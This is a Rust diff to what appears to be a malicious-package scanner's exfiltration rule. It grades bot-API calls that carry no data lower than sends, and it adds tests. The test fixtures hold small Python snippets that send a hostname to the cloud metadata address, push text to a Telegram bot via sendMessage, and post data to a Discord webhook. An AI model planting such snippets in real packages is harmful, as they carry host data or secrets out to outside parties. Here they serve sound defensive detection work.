@@ -173,6 +173,9 @@ impl Rule for Exfiltration {
                     // send of them anywhere (that flow is its own finding).
                     Stage::Import if endpoint == Endpoint::CloudMetadata => Severity::High,
                     Stage::Install | Stage::Import => Severity::Critical,
+                    // A library fetching from a bot API (`getMe` to check a token it
+                    // was handed) carries nothing out; posting or `sendMessage` does.
+                    Stage::Call if !carries_data(sink) => Severity::Medium,
                     Stage::Call => Severity::High,
                     Stage::Auxiliary => Severity::Low,
                 };
@@ -235,6 +238,17 @@ fn env_to_untrusted<'c>(
         }
         vocab::untrusted_destination(code, s).map(|h| (*s, h))
     })
+}
+
+/// Whether a request to an endpoint takes data with it: a send (`post`,
+/// `sendall`), a bot method that sends (`…/sendMessage?text=…`), or a query.
+fn carries_data(sink: &Call) -> bool {
+    vocab::is_send(&sink.name)
+        || sink.arg_strs.iter().any(|a| {
+            let l = a.to_ascii_lowercase();
+            l.contains("/send") || l.contains("?") || l.contains("webhook")
+        })
+        || !sink.arg_refs.is_empty()
 }
 
 #[cfg(test)]
@@ -304,6 +318,23 @@ mod tests {
         let src = "import socket\ndef probe():\n    h = socket.gethostname()\n    s = socket.socket()\n    s.connect(('169.254.169.254', 80))\n    s.send(h.encode())\n";
         let f = check(&Exfiltration, Kind::Wheel, &[("pkg/dash.py", src)]);
         assert!(f.iter().any(|f| f.severity >= Severity::High), "{f:?}");
+    }
+
+    #[test]
+    fn a_bot_api_fetch_carrying_nothing_is_a_note_when_called() {
+        use crate::archive::Kind;
+        // No error: a secrets scanner checking a token it found with `getMe`.
+        let verify = "import requests\ndef verify(secret):\n    return requests.get('https://api.telegram.org/bot{}/getMe'.format(secret))\n";
+        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/plugins/telegram.py", verify)]);
+        assert!(f.iter().all(|f| f.severity <= Severity::Medium), "{f:?}");
+        // Error: sending a message (data) to a bot, or posting to a webhook.
+        let send = "import requests\ndef report(text):\n    requests.get(f'https://api.telegram.org/bot{T}/sendMessage?chat_id=1&text={text}')\n";
+        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/util.py", send)]);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
+        let post =
+            "import requests\ndef report(d):\n    requests.post('https://discord.com/api/webhooks/1/x', json=d)\n";
+        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/util.py", post)]);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
     }
 
     #[test]
